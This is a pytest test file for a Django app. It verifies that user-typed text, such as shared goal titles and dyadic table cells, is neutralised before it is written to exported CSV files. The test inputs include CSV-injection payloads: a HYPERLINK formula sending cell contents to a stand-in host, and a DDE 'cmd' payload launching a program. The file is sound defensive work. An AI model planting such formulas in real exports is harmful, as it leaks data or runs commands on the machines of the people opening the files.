"""Item 11 of issue 13: text someone typed never reaches a CSV as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import numpy as np
import pytest

from interdepend.core.csvcell import safe_cell
from interdepend.core.dyadic import Table, load_csv, write_csv
from interdepend.web.datarights.services import JSON_NAME, export_archive
from interdepend.web.together.models import Goal
from interdepend.web.together.services import goal_update
from tests.conftest import Personas
from tests.security.datarights_support import read_export

FORMULA = '=HYPERLINK("https://example.invalid/?"&A1,"open")'


def _csv_cells(archive: bytes, name: str) -> list[dict[str, str]]:
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        text = opened.read(f"csv/{name}.csv").decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.django_db
def test_partner_edited_shared_goal_title_starting_with_equals_is_no_formula_in_export_csv(
    personas: Personas,
) -> None:
    goal = Goal.objects.get(public_id=personas.together["shared_goal"])
    goal_update(goal=goal, expected_version=goal.version, title=FORMULA, detail="", done=False)
    archive = export_archive(personas.alice)
    titles = [row["title"] for row in _csv_cells(archive, "together_goal")]
    assert "'" + FORMULA in titles
    assert not any(title.startswith(("=", "+", "-", "@")) for title in titles)
    tables, _ = read_export(archive)
    assert JSON_NAME and FORMULA in [row["title"] for row in tables["together_goal"]]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_by_the_shared_helper(start: str) -> None:
    assert safe_cell(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"


@pytest.mark.parametrize("value", ["-1.5", "+2", "-0", 3, -4.5, None, "plain words", ""])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def test_dyadic_csv_written_by_the_cli_neutralises_a_typed_formula(tmp_path: Path) -> None:
    table = Table({"dyad": np.array(["=1+1", "d2"]), "score": np.array([-1.5, 2.0])})
    out = tmp_path / "out.csv"
    write_csv(table, out)
    back = load_csv(out)
    assert list(back.column("dyad")) == ["'=1+1", "d2"]
    assert list(back.column("score")) == ["-1.5", "2.0"]


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("Walk;=cmd|' /C calc'!A0", "Walk;'=cmd|' /C calc'!A0"),
        ("Walk; @SUM(A1)", "Walk; '@SUM(A1)"),
        ("Walk\t+1", "Walk\t'+1"),
        ("a walk; then tea", "a walk; then tea"),
    ],
)
def test_a_formula_after_a_semicolon_or_tab_is_neutralised_too(typed: str, written: str) -> None:
    """Spreadsheets in languages whose decimal mark is a comma (Spanish among them) split a
    comma-separated file at semicolons: the text after one would begin a cell of its own."""
    assert safe_cell(typed) == written


@pytest.mark.django_db
def test_a_partners_goal_title_split_at_a_semicolon_is_no_formula_in_the_export(
    personas: Personas,
) -> None:
    goal = Goal.objects.get(public_id=personas.together["shared_goal"])
    typed = "Walk;=cmd|' /C calc'!A0"
    goal_update(goal=goal, expected_version=goal.version, title=typed, detail="", done=False)
    titles = [row["title"] for row in _csv_cells(export_archive(personas.alice), "together_goal")]
    assert "Walk;'=cmd|' /C calc'!A0" in titles
    for title in titles:
        assert not any(part.lstrip().startswith(("=", "+", "@")) for part in title.split(";"))
